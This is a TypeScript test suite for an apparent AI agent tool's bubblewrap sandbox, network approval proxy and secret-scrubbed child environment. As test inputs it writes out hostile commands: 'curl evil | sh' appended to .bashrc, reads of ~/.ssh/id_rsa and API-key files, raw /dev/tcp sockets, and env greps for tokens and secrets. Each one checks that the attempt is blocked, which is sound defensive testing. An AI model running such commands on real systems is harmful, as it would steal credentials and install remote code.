/**
 * The OS sandbox through the real tools (SBX-1..3) and the scrubbed child environment (SEC-6):
 * real bwrap, real bash, real exec tool scripts, a real server on 127.0.0.1, real kills.
 */
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type ParsedToolCall, ToolExecutor } from '@crystal/core';
import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../src/approval/index.js';
import type { Config } from '../src/config/schema.js';
import { homeConfigMemo } from '../src/index.js';
import { homeToolsDir } from '../src/external-tools/index.js';
import { assembleWorkspaceTools, type WorkspaceToolOptions } from '../src/workspace-tools.js';

interface Fixture {
  readonly base: string;
  readonly home: string;
  readonly userHome: string;
  readonly workspace: string;
  readonly env: NodeJS.ProcessEnv;
}

function fixture(extraEnv: NodeJS.ProcessEnv = {}): Fixture {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'crystal-sbx-tools-')));
  const home = join(base, 'crystal-home');
  const userHome = join(base, 'user');
  const workspace = join(base, 'ws');
  for (const dir of [home, join(userHome, '.ssh'), workspace]) mkdirSync(dir, { recursive: true });
  writeFileSync(join(userHome, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY----- fake\n');
  writeFileSync(join(home, 'config.json'), '{"providers": {"x": {"apiKey": "sk-literal-in-config"}}}\n');
  const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: userHome, LANG: 'C', ...extraEnv };
  return { base, home, userHome, workspace, env };
}

type Answer = 'once' | 'session' | 'always' | 'deny';

async function tools(f: Fixture, config: Partial<Config> = {}, extra: Partial<WorkspaceToolOptions> = {}) {
  const asked: ApprovalRequest[] = [];
  let answer: Answer = 'once';
  let answerFor: ((request: ApprovalRequest) => Answer) | undefined;
  const assembled = await assembleWorkspaceTools({
    home: f.home,
    workspace: f.workspace,
    config: { approval: 'full', ...config } as Config,
    mode: 'work',
    env: f.env,
    sessionId: () => 'session-sbx',
    imageInput: () => false,
    askApproval: async (request) => {
      asked.push(request);
      return answerFor ? answerFor(request) : answer;
    },
    ...extra,
  });
  // The sandbox is detected on first use (issue 22 item 4); these tests read its state first.
  await assembled.containment.resolve();
  const executor = new ToolExecutor({ tools: assembled.tools(), policy: assembled.policy, mapException: assembled.mapException });
  let n = 0;
  const call = async (name: string, input: Record<string, unknown>, signal = new AbortController().signal) => {
    const parsed: ParsedToolCall = { id: `call-${++n}`, name, arguments: JSON.stringify(input), input };
    const [result] = await executor.runBatch([parsed], signal);
    const text = result?.content.map((part) => (part.type === 'text' ? part.text : '')).join('') ?? '';
    return { text, isError: result?.isError ?? true };
  };
  return {
    assembled,
    asked,
    answer: (next: Answer) => {
      answer = next;
      answerFor = undefined;
    },
    answerWith: (pick: (request: ApprovalRequest) => Answer) => {
      answerFor = pick;
    },
    bash: (command: string, signal?: AbortSignal) => call('bash', { command }, signal),
    call,
  };
}

const servers: Server[] = [];
const webs: HttpServer[] = [];
const sockets: Socket[] = [];
afterEach(async () => {
  for (const socket of sockets.splice(0)) socket.destroy();
  for (const server of servers.splice(0)) await new Promise((r) => server.close(r));
  for (const web of webs.splice(0)) {
    web.closeAllConnections();
    await new Promise((r) => web.close(r));
  }
});

async function listen(): Promise<number> {
  const server = createServer((socket) => {
    sockets.push(socket);
    socket.end('reached the host server\n');
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return (server.address() as { port: number }).port;
}

/**
 * A workspace script that fetches a URL with curl (through HTTP_PROXY): the classifier sees
 * `sh fetch.sh`, a Workspace command, so the host decision is the proxy's, not the command's.
 */
function fetchScript(f: Fixture, url: string, flags = ''): string {
  writeFileSync(join(f.workspace, 'fetch.sh'), `curl -s ${flags} "$1"\n`);
  return `sh fetch.sh ${url}`;
}

async function listenHttp(): Promise<number> {
  const web = createHttpServer((_req, res) => res.end('web page\n'));
  webs.push(web);
  await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
  return (web.address() as { port: number }).port;
}

/** Host processes whose command line contains `marker`. */
function processesWith(marker: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const cmdline = readFileSync(`/proc/${entry}/cmdline`, 'utf8').replace(/\0/g, ' ');
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      if (cmdline.includes(marker) && !/^\d+ \(.*\) Z/.test(stat)) found.push(Number(entry));
    } catch {
      // Gone meanwhile.
    }
  }
  return found;
}

async function noneLeft(marker: string): Promise<boolean> {
  for (let i = 0; i < 100 && processesWith(marker).length > 0; i++) await new Promise((r) => setTimeout(r, 50));
  return processesWith(marker).length === 0;
}

describe('SBX-1 bash runs in the OS sandbox', () => {
  it('SBX-1 workspace writes work', async () => {
    const f = fixture();
    const t = await tools(f);
    expect(t.assembled.containment.sandboxed).toBe(true);
    const result = await t.bash('echo built > out.txt && mkdir -p dist && cp out.txt dist/ && cat dist/out.txt');
    expect(result).toEqual({ text: 'exit 0\nbuilt\n', isError: false });
    expect(readFileSync(join(f.workspace, 'dist', 'out.txt'), 'utf8')).toBe('built\n');
  });

  it('SBX-1 a write outside the workspace is refused by the OS and the result says so', async () => {
    const f = fixture();
    const t = await tools(f);
    const target = join('/var/tmp', `crystal-sbx-${process.pid}-${Date.now()}`);
    const result = await t.bash(`echo pwned > ${target}`);
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/Read-only file system/);
    expect(result.text).toContain('[sandbox] writes outside the workspace are blocked');
    expect(result.text).toContain('"sandbox": "off"');
    expect(existsSync(target)).toBe(false);
    // The workspace's parent is a host temp folder: inside, it lies in the sandbox's own /tmp, so
    // the write lands there and never on the host.
    await t.bash(`echo pwned > ${join(f.base, 'sibling.txt')}`);
    expect(existsSync(join(f.base, 'sibling.txt'))).toBe(false);
  });

  it('SBX-1 ~/.ssh/id_rsa and Home config are unreadable and the result says they are hidden', async () => {
    const f = fixture();
    const t = await tools(f);
    const result = await t.bash(`cat ~/.ssh/id_rsa; cat ${join(f.home, 'config.json')}`);
    expect(result.isError).toBe(true);
    expect(result.text).not.toContain('PRIVATE KEY');
    expect(result.text).not.toContain('sk-literal-in-config');
    expect(result.text).toMatch(/\[sandbox\] .*\.ssh.*hidden inside the sandbox/);
  });

  it('SBX-1 with the workspace containing Home (crystal started in ~) ~/.ssh and Home secrets (the validated config copy too) stay unreadable', async () => {
    const f = fixture();
    const home = join(f.userHome, '.crystal');
    mkdirSync(join(home, 'sessions'), { recursive: true });
    writeFileSync(join(home, 'config.json'), '{"apiKey": "sk-in-home-config"}\n');
    writeFileSync(join(home, 'credentials.json'), '{"x": {"apiKey": "sk-in-credentials"}}\n');
    writeFileSync(join(home, 'sessions', 's1.json'), '{"secret": "session-transcript"}\n');
    writeFileSync(join(f.userHome, 'readme.txt'), 'workspace file\n');
    writeFileSync(join(f.userHome, '.bashrc'), '# rc\n');
    // Issue 22: the validated copy of config.json in Home's cache holds the same key.
    const text = readFileSync(join(home, 'config.json'), 'utf8');
    homeConfigMemo(home, 'b0b0b0b0b0b0b0b0')?.remember(join(home, 'config.json'), text, JSON.parse(text), []);
    expect(readFileSync(join(home, 'cache', 'validated-config-b0b0b0b0b0b0b0b0.json'), 'utf8')).toContain('sk-in-home-config');
    const t = await tools({ ...f, home, workspace: f.userHome });
    // Start-up files of the account stay read-only: no persistence outside the next sandboxed call.
    const rc = await t.bash('echo "curl evil | sh" >> .bashrc');
    expect(rc.text).toMatch(/\.bashrc: Read-only file system/);
    expect(readFileSync(join(f.userHome, '.bashrc'), 'utf8')).toBe('# rc\n');
    const result = await t.bash(
      'cat readme.txt; cat .ssh/id_rsa; cat .crystal/config.json; cat .crystal/credentials.json; cat .crystal/sessions/s1.json; cat .crystal/cache/*; echo x > .crystal/config.json; exit 1',
    );
    expect(result.text).toContain('workspace file');
    for (const secret of ['PRIVATE KEY', 'sk-in-home-config', 'sk-in-credentials', 'session-transcript']) {
      expect(result.text).not.toContain(secret);
    }
    expect(readFileSync(join(home, 'config.json'), 'utf8')).toBe('{"apiKey": "sk-in-home-config"}\n');
  });

  it('SBX-1 a socket to a real server on 127.0.0.1 is refused and the result says the network is off', async () => {
    const f = fixture();
    const port = await listen();
    const t = await tools(f);
    const result = await t.bash(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`);
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/Connection refused/);
    expect(result.text).not.toContain('reached the host server');
    expect(result.text).toContain('[sandbox] the network is off inside the sandbox');
  });

  it('SBX-1 the timeout still stops the sandboxed command and everything it started', async () => {
    const f = fixture();
    const t = await tools(f, { bashTimeoutSeconds: 1 });
    const marker = `9${process.pid % 1000}7531`;
    const result = await t.bash(`sleep ${marker}1 & sleep ${marker}2`);
    expect(result).toMatchObject({ isError: true });
    expect(result.text).toMatch(/^The command timed out after 1 seconds\./);
    expect(await noneLeft(`sleep ${marker}`)).toBe(true);
  });

  it('SBX-1 the timeout also stops a child that left the process group (setsid): the PID namespace ends with the command', async () => {
    const f = fixture();
    const t = await tools(f, { bashTimeoutSeconds: 1 });
    const marker = `6${process.pid % 1000}1357`;
    const result = await t.bash(`setsid sleep ${marker}1 & sleep ${marker}2`);
    expect(result.text).toMatch(/^The command timed out after 1 seconds\./);
    expect(await noneLeft(`sleep ${marker}`)).toBe(true);
  });

  it('SBX-1 a cancel stops the sandboxed command', async () => {
    const f = fixture();
    const t = await tools(f);
    const marker = `8${process.pid % 1000}2468`;
    const abort = new AbortController();
    const running = t.bash(`sleep ${marker} & wait`, abort.signal);
    for (let i = 0; i < 200 && processesWith(`sleep ${marker}`).length === 0; i++) await new Promise((r) => setTimeout(r, 25));
    expect(processesWith(`sleep ${marker}`).length).toBeGreaterThan(0);
    abort.abort();
    const result = await running;
    expect(result.isError).toBe(true);
    expect(await noneLeft(`sleep ${marker}`)).toBe(true);
  });

  it('SBX-1 exec tools run in the sandbox too, their own set folder readable', async () => {
    const f = fixture();
    const escaped = join('/var/tmp', `crystal-sbx-exec-${process.pid}-${Date.now()}`);
    const dir = join(homeToolsDir(f.home), 'writer');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'write.sh'), `#!/bin/sh\necho inside > "$CRYSTAL_WORKSPACE/ok.txt"\necho out > ${escaped}\n`);
    chmodSync(join(dir, 'write.sh'), 0o755);
    writeFileSync(
      join(dir, 'tools.json'),
      JSON.stringify({
        runner: 'exec',
        command: ['write.sh'],
        tools: [{ name: 'writer', description: 'w', schema: { type: 'object' } }],
      }),
    );
    const t = await tools(f);
    const result = await t.call('writer', {});
    expect(result.isError).toBe(true);
    expect(readFileSync(join(f.workspace, 'ok.txt'), 'utf8')).toBe('inside\n');
    expect(existsSync(escaped)).toBe(false);
    expect(result.text).toContain('[sandbox] writes outside the workspace are blocked');
  });
});

describe('SBX-2 no sandbox: one note at start, the asks stay', () => {
  it('SBX-2 without bubblewrap (CRYSTAL_BWRAP empty) the start-up notes say so once and bash runs as before', async () => {
    const f = fixture({ CRYSTAL_BWRAP: '' });
    const t = await tools(f);
    expect(t.assembled.containment.sandboxed).toBe(false);
    const notes = t.assembled.notes.filter((note) => note.includes('sandbox'));
    expect(notes).toEqual([
      'No OS sandbox: CRYSTAL_BWRAP is set to an empty value. Shell commands and exec tools run with your permissions; the approval asks stay.',
    ]);
    const result = await t.bash('echo plain > plain.txt && cat plain.txt');
    expect(result).toEqual({ text: 'exit 0\nplain\n', isError: false });
    // The classifier still asks in full mode: nothing contains the command.
    await t.bash('chmod 777 plain.txt');
    expect(t.asked.map((r) => r.card.summary)).toEqual(['Privileged shell command']);
    expect(t.asked[0]?.card.sandbox).toBe('Not sandboxed: unavailable (CRYSTAL_BWRAP is set to an empty value)');
  });

  it('SBX-2 without bwrap on PATH the note names the package to install', async () => {
    const f = fixture({ PATH: mkdtempSync(join(tmpdir(), 'crystal-nobwrap-')) });
    const t = await tools(f);
    expect(t.assembled.notes).toContain(
      'No OS sandbox: bubblewrap (bwrap) is not installed; install the bubblewrap package to sandbox shell commands. Shell commands and exec tools run with your permissions; the approval asks stay.',
    );
  });

  it('SBX-2 on another platform there is no sandbox and a note', async () => {
    const f = fixture();
    const t = await tools(f, {}, { platform: 'win32' });
    expect(t.assembled.containment.sandboxed).toBe(false);
    expect(t.assembled.notes[0]).toMatch(/^No OS sandbox: the OS sandbox needs Linux with bubblewrap; this is win32\./);
  });

  it('SBX-2 "sandbox": "off" in config runs unsandboxed, with a note', async () => {
    const f = fixture();
    const t = await tools(f, { sandbox: 'off' });
    expect(t.assembled.containment.sandboxed).toBe(false);
    expect(t.assembled.notes[0]).toMatch(/^The OS sandbox is off \("sandbox": "off" in config\.json\)/);
    const target = join(f.base, 'written-outside.txt');
    await t.bash(`echo plain > ${target}`);
    // Unsandboxed, the write lands on the host (whether the classifier asked first or not; it is answered Once).
    expect(readFileSync(target, 'utf8')).toBe('plain\n');
  });
});

describe('SBX-3 approval and status know the sandbox', () => {
  it('SBX-3 the card says the call runs sandboxed; full mode passes a Privileged workspace command the sandbox contains', async () => {
    const f = fixture();
    const t = await tools(f);
    writeFileSync(join(f.workspace, 'script.sh'), 'echo hi\n');
    const result = await t.bash('chmod 777 script.sh && echo changed');
    expect(result).toEqual({ text: 'exit 0\nchanged\n', isError: false });
    expect(t.asked).toEqual([]);
  });

  it('SBX-3 a Network command still asks in full mode; the card says sandboxed; the approved call gets the network', async () => {
    const f = fixture();
    const port = await listen();
    const t = await tools(f);
    // The word curl makes it a Network command for the classifier; bash's /dev/tcp does the talking.
    const command = `command -v curl >/dev/null; exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`;
    const result = await t.bash(command);
    expect(t.asked.map((r) => r.card.summary)).toEqual(['Network shell command']);
    expect(t.asked[0]?.card.sandbox).toBe(
      'Sandboxed: workspace-write (bubblewrap), network through the sandbox proxy (allowed: none; other hosts ask)',
    );
    expect(result.text).toContain('reached the host server');
    // Denied, the call never runs; a later unapproved (workspace) call has no network.
    const plain = await t.bash(`exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`);
    expect(plain.text).toContain('[sandbox] the network is off');
  });

  it('SBX-1 an allowed host is reached through the sandbox proxy; a raw socket still is not', async () => {
    const f = fixture();
    const port = await listenHttp();
    const t = await tools(f, { sandbox: { mode: 'workspace-write', network: { allow: ['127.0.0.1'] } } });
    expect(t.assembled.containment.description).toBe(
      'workspace-write (bubblewrap), network through the sandbox proxy (allowed: 127.0.0.1; other hosts ask)',
    );
    const result = await t.bash(fetchScript(f, `http://127.0.0.1:${port}/`));
    expect(result).toEqual({ text: 'exit 0\nweb page\n', isError: false });
    // Full mode, a workspace command, an allowed host: nothing asked.
    expect(t.asked).toEqual([]);
    const raw = await t.bash(`exec 3<>/dev/tcp/127.0.0.1/${port}`);
    expect(raw.isError).toBe(true);
  });

  it('SBX-1 a host off the allow list asks the operator: Deny gives a [sandbox] 403, Session passes it for the session', async () => {
    const f = fixture();
    const port = await listenHttp();
    const t = await tools(f, { approval: 'edit' });
    // The bash call itself is answered too (edit mode asks for bash): the host ask is the second card.
    t.answer('deny');
    const hostOnly = (asked: ApprovalRequest[]) => asked.filter((r) => r.card.tool === 'sandbox network');
    const first = await t.bash(fetchScript(f, `http://localhost:${port}/`));
    expect(first.text).toContain('The user declined this action');
    t.answer('session');
    const refused = await t.bash(fetchScript(f, `http://localhost:${port}/`));
    expect(hostOnly(t.asked).map((r) => [r.card.summary, r.card.subject, r.card.authority])).toEqual([
      ['Network access to localhost from a sandboxed command', 'localhost', 'Network'],
    ]);
    // The host card was answered Session as well, so the page came through.
    expect(refused.text).toBe('exit 0\nweb page\n');
    const again = await t.bash(fetchScript(f, `http://localhost:${port}/again`));
    expect(again.text).toBe('exit 0\nweb page\n');
    expect(hostOnly(t.asked)).toHaveLength(1);
  });

  it('SBX-1 a host the operator denies gets a [sandbox] 403 the command shows; Always is kept in permissions.json', async () => {
    const f = fixture();
    const port = await listenHttp();
    const t = await tools(f);
    const answers: Answer[] = ['deny', 'always'];
    t.answerWith((request) => (request.card.tool === 'sandbox network' ? (answers.shift() ?? 'deny') : 'once'));
    const denied = await t.bash(fetchScript(f, `http://localhost:${port}/`, '-i'));
    expect(denied.text).toMatch(/HTTP\/1\.1 403 Forbidden/);
    expect(denied.text).toContain('[sandbox] network access to localhost is not allowed (the operator declined it)');
    const always = await t.bash(fetchScript(f, `http://localhost:${port}/`));
    expect(always.text).toBe('exit 0\nweb page\n');
    const permissions = JSON.parse(readFileSync(join(f.home, 'permissions.json'), 'utf8'));
    expect(permissions.grants).toEqual([{ workspace: f.workspace, tool: 'sandbox network', fingerprint: 'localhost' }]);
  });

  it('SBX-1 a CONNECT the proxy refuses fails the command and the result names the sandbox proxy', async () => {
    const f = fixture();
    const port = await listenHttp();
    const t = await tools(f);
    t.answerWith((request) => (request.card.tool === 'sandbox network' ? 'deny' : 'once'));
    const result = await t.bash(fetchScript(f, `http://localhost:${port}/`, '-S --proxytunnel'));
    expect(result.isError).toBe(true);
    expect(result.text).toMatch(/CONNECT tunnel failed, response 403/);
    expect(result.text).toContain("[sandbox] the sandbox's network proxy refused a host");
  });

  it('SBX-1 without an operator (crystal run) a host off the allow list is refused without asking', async () => {
    const f = fixture();
    const port = await listenHttp();
    const assembled = await assembleWorkspaceTools({
      home: f.home,
      workspace: f.workspace,
      config: { approval: 'full', sandbox: { network: { allow: ['127.0.0.1'] } } } as Config,
      mode: 'work',
      env: f.env,
      sessionId: () => 's',
      imageInput: () => false,
    });
    await assembled.containment.resolve();
    expect(assembled.containment.description).toBe(
      'workspace-write (bubblewrap), network through the sandbox proxy (allowed: 127.0.0.1; other hosts refused)',
    );
    const executor = new ToolExecutor({
      tools: assembled.tools(),
      policy: assembled.policy,
      mapException: assembled.mapException,
    });
    const run = async (command: string) => {
      const [result] = await executor.runBatch(
        [{ id: 'c', name: 'bash', arguments: JSON.stringify({ command }), input: { command } }],
        new AbortController().signal,
      );
      return result?.content.map((part) => (part.type === 'text' ? part.text : '')).join('') ?? '';
    };
    expect(await run(fetchScript(f, `http://127.0.0.1:${port}/`))).toBe('exit 0\nweb page\n');
    expect(await run(fetchScript(f, `http://localhost:${port}/`))).toContain(
      '[sandbox] network access to localhost is not allowed.',
    );
  });

  it('SBX-3 a Forbidden command still asks with the sandbox on', async () => {
    const f = fixture();
    const t = await tools(f);
    t.answer('deny');
    await t.bash('sudo true');
    expect(t.asked.map((r) => r.card.risk)).toEqual(['Forbidden']);
  });
});

describe('SEC-6 children get no keys', () => {
  const secrets = {
    OPENAI_API_KEY: 'sk-openai-secret',
    ANTHROPIC_API_KEY: 'sk-ant-secret',
    MY_LLM_CRED: 'custom-provider-key',
    CRYSTAL_API_KEY: 'crystal-secret',
    GITHUB_TOKEN: 'ghp_secret',
    NPM_TOKEN: 'npm-secret',
    AWS_SECRET_ACCESS_KEY: 'aws-secret',
    DB_PASSWORD: 'hunter2',
    CRYSTAL_HOME: '/should/not/pass',
    KEYBOARD_LAYOUT: 'us',
  };
  const config: Partial<Config> = {
    providers: {
      custom: {
        protocol: 'openai',
        baseUri: 'http://127.0.0.1:9/v1/',
        apiKeyEnvironment: 'MY_LLM_CRED',
        models: { m: { contextWindow: 1000 } },
      },
    },
  };

  it('SEC-6 env | grep KEY through the real bash tool shows nothing, sandboxed or not', async () => {
    for (const sandbox of ['workspace-write', 'off'] as const) {
      const f = fixture(secrets);
      const t = await tools(f, { ...config, sandbox });
      const result = await t.bash('env | grep -i -E "key|token|secret|password|cred|crystal_home" || echo nothing');
      expect(result.text).toBe('exit 0\nKEYBOARD_LAYOUT=us\n');
      for (const value of Object.values(secrets).filter((v) => v !== 'us')) expect(result.text).not.toContain(value);
    }
  });

  it('SEC-6 a variable listed in shellEnvironment.pass reaches the child', async () => {
    const f = fixture(secrets);
    const t = await tools(f, { ...config, shellEnvironment: { pass: ['GITHUB_TOKEN'] } });
    const result = await t.bash('echo "$GITHUB_TOKEN|$OPENAI_API_KEY|$MY_LLM_CRED"');
    expect(result.text).toBe('exit 0\nghp_secret||\n');
  });

  it('SEC-6 exec tools get the scrubbed environment', async () => {
    const f = fixture(secrets);
    const dir = join(homeToolsDir(f.home), 'envdump');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'dump.sh'), '#!/bin/sh\nenv | sort\n');
    chmodSync(join(dir, 'dump.sh'), 0o755);
    writeFileSync(
      join(dir, 'tools.json'),
      JSON.stringify({
        runner: 'exec',
        command: ['dump.sh'],
        tools: [{ name: 'envdump', description: 'env', schema: { type: 'object' } }],
      }),
    );
    const t = await tools(f, config);
    const result = await t.call('envdump', {});
    expect(result.isError).toBe(false);
    expect(result.text).toContain('CRYSTAL_WORKSPACE=');
    for (const value of Object.values(secrets).filter((v) => v !== 'us')) expect(result.text).not.toContain(value);
  });
});
